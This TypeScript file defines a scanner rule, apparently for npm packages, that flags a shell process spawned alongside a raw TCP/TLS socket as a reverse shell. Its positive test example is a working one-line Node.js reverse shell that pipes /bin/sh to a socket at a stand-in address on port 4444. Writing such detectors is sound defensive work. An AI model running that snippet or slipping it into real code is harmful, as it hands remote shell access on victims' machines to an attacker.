import type { JsRule } from '../../analysis/javascript/context.js';
import { at, eventTrigger } from '../../analysis/javascript/context.js';
import { defineRule } from '../types.js';

const SHELL = /^\s*(?:\/(?:usr\/)?bin\/)?(?:sh|bash|zsh|dash|cmd(?:\.exe)?|powershell(?:\.exe)?|pwsh)(?:\s|$)/i;
const RAW_SOCKET = /^(?:net\.(?:connect|createConnection|Socket)|tls\.connect|dgram\.createSocket)$/;

/** A shell process wired to a raw socket in the same file. */
export const reverseShell: JsRule = defineRule({
  meta: {
    id: 'npm/reverse-shell',
    kind: 'threat',
    category: 'remote-access',
    severity: 'critical',
    confidence: 'high',
    ecosystems: ['npm'],
    description: 'A shell (sh, bash, cmd.exe, powershell) is spawned next to a raw TCP/TLS socket: a reverse shell.',
    examples: {
      positive: [{ files: { 'package.json': '{"name":"p"}', 'index.js': "const net=require('net'),cp=require('child_process');const sh=cp.spawn('/bin/sh',[]);const c=new net.Socket();c.connect(4444,'203.0.113.5',()=>{c.pipe(sh.stdin);sh.stdout.pipe(c);});" } }],
      negative: [{ files: { 'package.json': '{"name":"p"}', 'index.js': "const net=require('net'),cp=require('child_process');cp.spawn('git',['status']);net.createServer(()=>{}).listen(0);" } }],
    },
  },
  check(ctx, report) {
    for (const file of ctx.files) {
      const shell = file.facts.events.find((e) => e.sink === 'exec' && SHELL.test(e.text ?? ''));
      if (shell === undefined) continue;
      const socket = file.facts.events.find((e) => e.sink === 'network' && RAW_SOCKET.test(e.name));
      if (socket === undefined) continue;
      report(at(file, shell, `Spawns a shell (${(shell.text ?? '').slice(0, 30)}) in a file that opens a raw socket (${socket.name}, line ${socket.line}): reverse shell.`, { trigger: eventTrigger(file, shell) }));
    }
  },
});
